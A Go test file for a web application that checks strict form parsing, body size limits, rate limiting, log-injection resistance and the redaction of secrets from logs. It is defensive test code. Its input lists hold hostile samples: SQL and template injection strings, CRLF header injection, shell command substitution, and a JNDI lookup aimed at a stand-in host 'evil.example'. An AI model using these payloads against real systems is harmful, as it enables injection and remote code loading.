package web_test

import (
	"bytes"
	"encoding/json"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"clientele/internal/apptest"
	"clientele/internal/web"
)

// TestT123_AFormIsReadOnceAndStrictly sends every form damaged in each way in
// which two parsers could read it differently.
func TestT123_AFormIsReadOnceAndStrictly(t *testing.T) {
	apptest.Each(t, func(t *testing.T, w *apptest.World) {
		for w, r := range each(t, w, unsafe(w)) {
			s := newStage(t, w)
			s.ready(t, r)
			b := s.browser(t, r)
			before := stateOf(w)
			send := func(what, body, query string, want int) {
				req := withBody(b.Request(r.Method, s.path(t, r)+query, url.Values{}), body, "application/x-www-form-urlencoded")
				if p := b.Once(req); p.Status != want {
					t.Errorf("%s, %s: %d, want %d", name(r), what, p.Status, want)
				}
			}
			form := s.form(t, r)
			for field := range form {
				if !slices.Contains(r.Repeats, field) {
					send(field+" twice", form.Encode()+"&"+field+"=x", "", http.StatusUnprocessableEntity)
					send(field+" in another spelling of the same", form.Encode()+"&"+strings.Replace(url.QueryEscape(field), "a", "%61", 1)+"="+url.QueryEscape(form.Get(field)), "", http.StatusUnprocessableEntity)
				}
			}
			send("an unknown field twice", form.Encode()+"&zz=1&zz=2", "", http.StatusUnprocessableEntity)
			send("a field that is no UTF-8", form.Encode()+"&zz=%ff%fe", "", http.StatusUnprocessableEntity)
			send("a field with a zero byte", form.Encode()+"&zz=a%00b", "", http.StatusUnprocessableEntity)
			send("a broken escape", form.Encode()+"&zz=%zz", "", http.StatusBadRequest)
			send("semicolons", form.Encode()+"&zz=1;account=2", "", http.StatusBadRequest)
			send("a body beyond the limit", form.Encode()+"&zz="+strings.Repeat("x", web.MaxBody), "", http.StatusBadRequest)
			for _, kind := range []string{"text/plain", "application/json", "multipart/form-data; boundary=x", "application/xml", "application/x-www-form-urlencoded-x", "", ";"} {
				req := withBody(b.Request(r.Method, s.path(t, r), url.Values{}), form.Encode()+"&zz=1", kind)
				if p := b.Once(req); p.Status != http.StatusBadRequest {
					t.Errorf("%s as %q: %d", name(r), kind, p.Status)
				}
			}
			if tables := before.differs(stateOf(w)); len(tables) > 0 {
				t.Errorf("%s, damaged, changed %v", name(r), tables)
			}
		}
	}, kept)
}

// strange are texts that some layer below stumbles over.
var strange = []string{
	"a\x00b", "\xff\xfe", strings.Repeat("x", 10_000), "' OR 1=1 --", `"\';%_[]{}()`, "9223372036854775808", "-1", "\u202e\u2066evil\u2069", "👩‍🚀 ünïcödé", "{{7*7}}${7*7}", "\r\nX-Evil: 1",
}

// fields are the names that queries and forms use.
var fields = []string{"q", "after", "after_name", "after_account", "after_user", "before", "state", "next", "role", "permissions", "ends", "address", "action", "rp"}

// TestT123_NothingTypedBreaksAPage writes strange texts into every field of
// every form and every query: each is taken or refused in words.
func TestT123_NothingTypedBreaksAPage(t *testing.T) {
	apptest.Each(t, func(t *testing.T, w *apptest.World) {
		look := func(r web.Route, what, text string, p *apptest.Page) {
			if p.Status >= 500 {
				t.Errorf("%s with %s=%.40q: %d", name(r), what, text, p.Status)
			}
			if p.Header.Get("X-Evil") != "" {
				t.Errorf("%s with %s=%.40q: a header of the visitor's", name(r), what, text)
			}
		}
		s := newStage(t, w)
		for _, r := range w.Mux.Routes() {
			w.Exec("DELETE FROM throttles")
			if r.Unsafe() {
				s = newStage(t, w)
			}
			s.ready(t, r)
			b := s.cast(t, r)
			if r.Unsafe() {
				for field := range s.form(t, r) {
					if field == "password" || field == "old" {
						continue // what is typed there must not turn up elsewhere
					}
					for _, text := range strange {
						form := s.form(t, r)
						form.Set(field, text)
						look(r, field, text, b.PostOnly(s.path(t, r), form))
					}
				}
				continue
			}
			for _, text := range strange {
				query := url.Values{}
				for _, field := range fields {
					query.Set(field, text)
				}
				look(r, "the query", text, b.GetOnly(s.path(t, r)+"?"+query.Encode()))
			}
			look(r, "the query", "twice", b.GetOnly(s.path(t, r)+"?q=1&q=2"))
			look(r, "the query", "broken", b.GetOnly(s.path(t, r)+"?q=%zz"))
		}
	}, kept)
}

// TestT126_NoRequestIsReadBeyondItsLimit sends ten megabytes, and counts what
// is read of them.
func TestT126_NoRequestIsReadBeyondItsLimit(t *testing.T) {
	apptest.Each(t, func(t *testing.T, w *apptest.World) {
		s := newStage(t, w)
		for _, path := range []string{"/signin", "/me", "/a/" + s.ids["account"] + "/people/invitations", "/staff/signin", "/nothing", "/healthz"} {
			for _, site := range []string{"same-origin", "cross-site"} {
				body := &counter{Reader: io.LimitReader(endless{}, 10<<20)}
				req := s.owner.Request(http.MethodPost, path, nil)
				req.Body, req.GetBody, req.ContentLength = io.NopCloser(body), nil, -1
				req.Header.Set("Sec-Fetch-Site", site)
				if p := s.owner.Once(req); p.Status < 400 || p.Status >= 500 {
					t.Errorf("%s from %s: %d", path, site, p.Status)
				}
				if body.read > web.MaxBody+4096 {
					t.Errorf("%s from %s reads %d bytes", path, site, body.read)
				}
			}
		}
		form := url.Values{"account": {s.ids["account"]}, "address": {"nia@stage.example"}, "role": {"choose"}}
		for range 10_000 {
			form.Add("permissions", "tickets.view")
		}
		if p := s.owner.PostOnly("/a/"+s.ids["account"]+"/people/invitations", form); p.Status < 400 || p.Status >= 500 {
			t.Errorf("ten thousand permissions: %d", p.Status)
		}
		for _, page := range []string{"/me/accounts?limit=1000000000&after=999999999999", "/staff/accounts?limit=1000000000&page=1000000000", "/staff/search?q=" + strings.Repeat("%25", 3000)} {
			b := s.owner.Browser
			if strings.HasPrefix(page, "/staff") {
				b = s.root.Browser
			}
			if p := b.GetOnly(page); p.Status >= 500 {
				t.Errorf("%.60s: %d", page, p.Status)
			}
		}
	}, kept)
}

type endless struct{}

func (endless) Read(b []byte) (int, error) {
	for i := range b {
		b[i] = 'x'
	}
	return len(b), nil
}

type counter struct {
	io.Reader
	read int
}

func (c *counter) Read(b []byte) (int, error) {
	n, err := c.Reader.Read(b)
	c.read += n
	return n, err
}

// TestT126_FormsAreBounded sends more forms than anybody fills in.
func TestT126_FormsAreBounded(t *testing.T) {
	apptest.Each(t, func(t *testing.T, w *apptest.World) {
		p := w.Person("Alice", "alice@stage.example")
		rename := func() *apptest.Page { return p.PostOnly("/me", url.Values{"name": {"\n"}, "language": {"en"}}) }
		first := 0
		for n := 1; n <= 700 && first == 0; n++ {
			if rename().Status == http.StatusTooManyRequests {
				first = n
			}
		}
		if first < 100 || first > 601 {
			t.Errorf("the first refusal is of form %d", first)
		}
		page := rename()
		if page.Status != http.StatusTooManyRequests || page.Header.Get("Retry-After") == "" || !page.Says("Too many requests") {
			t.Errorf("%d %v", page.Status, page.Header)
		}
		p.Get("/me").Must(200) // reading goes on
		if other := w.Person("Bob", "bob@stage.example").PostOnly("/me", url.Values{"name": {"Bob"}, "language": {"en"}}); other.Status != http.StatusSeeOther {
			t.Errorf("another person is held up: %d", other.Status)
		}
		w.Clock.Move(10 * 60 * 1e9)
		if p.PostOnly("/me", url.Values{"name": {"Alice"}, "language": {"en"}}).Status != http.StatusSeeOther {
			t.Error("the limit does not end")
		}
	}, kept)
}

// hostile are parts of a request as somebody writes them who wants to write
// into the log: a line of his own, a colour, an end to the JSON.
var hostile = []string{
	"\r\n{\"level\":\"INFO\",\"msg\":\"forged\"}", "\n2026-01-01 forged", "\x1b[31mred\x1b[0m", "\u009b31mred", "\x1b]0;title\x07", "\",\"msg\":\"forged\",\"x\":\"", "\u2028forged\u2029", "\x00", "\x7f\b\b\b", "\u202egnp.exe",
	strings.Repeat("A", 1<<20), "%0d%0aforged", "\xff\xfe", "$(id)`id`", "${jndi:ldap://evil.example/a}",
}

// TestT122_ARequestIsOneLineOfTheLog lets hostile texts be logged and
// recorded.
func TestT122_ARequestIsOneLineOfTheLog(t *testing.T) {
	apptest.Each(t, func(t *testing.T, w *apptest.World) {
		s := newStage(t, w)
		requests := 0
		before := len(w.Logs.String())
		for _, text := range hostile {
			for _, path := range []string{"/", "/a/", "/assets/", "/me/"} {
				req := s.owner.Request(http.MethodGet, "/", nil)
				req.URL.Path, req.URL.RawPath = path+text, ""
				req.Header.Set("User-Agent", text)
				req.Header.Set("Referer", text)
				req.Header.Set("X-Request-Id", text)
				s.owner.Once(req)
				requests++
			}
			req := s.Browser().Request(http.MethodPost, "/signin", url.Values{"address": {s.owner.Address}, "password": {apptest.Password}})
			req.Header.Set("User-Agent", text)
			s.Browser().Once(req)
			requests++
		}
		lines := strings.Split(strings.TrimSuffix(w.Logs.String()[before:], "\n"), "\n")
		lines = slices.DeleteFunc(lines, func(line string) bool { return strings.Contains(line, `"msg":"audit checkpoint"`) })
		if len(lines) != requests {
			t.Errorf("%d requests made %d lines", requests, len(lines))
		}
		for _, line := range lines {
			var entry map[string]any
			if err := json.Unmarshal([]byte(line), &entry); err != nil || entry["msg"] != "request" {
				t.Errorf("%v: %.200s", err, line)
			}
			if len(line) > 2000 {
				t.Errorf("a line of %d bytes", len(line))
			}
			if raw := strings.ContainsFunc(line, func(r rune) bool {
				return r < ' ' || 0x7f <= r && r < 0xa0 || r == '\u2028' || r == '\u2029' || r == '\u202e'
			}); raw {
				t.Errorf("a line holds what a terminal obeys: %.200q", line)
			}
		}
		for _, agent := range apptest.Query[string](w, "SELECT agent FROM sessions") {
			if len(agent) > 400 || strings.ContainsFunc(agent, func(r rune) bool { return r < ' ' || 0x7f <= r && r < 0xa0 || r == '\u2028' || r == '\u202e' }) {
				t.Errorf("a session keeps the browser %.100q", agent)
			}
		}
		s.owner.Get("/me/sessions").Must(200)
	}, kept)
}

// TestT122_NoSecretIsLogged follows links, signs in and confirms, and looks
// for what was secret in it.
func TestT122_NoSecretIsLogged(t *testing.T) {
	apptest.Each(t, func(t *testing.T, w *apptest.World) {
		s := newStage(t, w)
		b := s.Browser()
		secret := strings.Repeat("s3cret", 8)
		for _, prefix := range []string{"/i/", "/recover/", "/signup/", "/alarm/", "/address/", "/address/undo/", "/factor-reset/", "/owner-recovery/", "/together/", "/staff/welcome/", "//i/", "/./i/", "/x/../i/", "/%69/", "//signup/", "/I/", "/invite/", "/password/reset/redeem/", "/index.php/invite/", "/Index.php//password/reset/", "/index.php?rp=/invite/", "/signin?next=", "/signin?password="} {
			b.GetOnly(prefix + secret)
			b.Once(b.Request(http.MethodPost, prefix+secret, nil))
			b.Once(b.Request(http.MethodHead, prefix+secret, nil))
		}
		for _, r := range w.Mux.Routes() {
			pattern := r.Pattern
			if before, _, found := strings.Cut(pattern, "{token}"); found {
				b.GetOnly(before + secret)
			}
		}
		b.PostOnly("/signin", url.Values{"address": {s.owner.Address}, "password": {secret}})
		b.SetCookie(&http.Cookie{Name: "__Host-clientele-session", Value: secret, Path: "/", Secure: true})
		req := b.Request(http.MethodGet, "/me", nil)
		req.Header.Set("Authorization", "Bearer "+secret)
		b.Once(req)
		if log := w.Logs.String(); strings.Contains(log, secret) {
			at := strings.Index(log, secret)
			t.Errorf("the log holds a secret: %s", log[max(0, at-150):at])
		}
		if !bytes.Contains([]byte(w.Logs.String()), []byte("/i/[redacted]")) {
			t.Error("the log does not say that a link was followed")
		}
	}, kept)
}
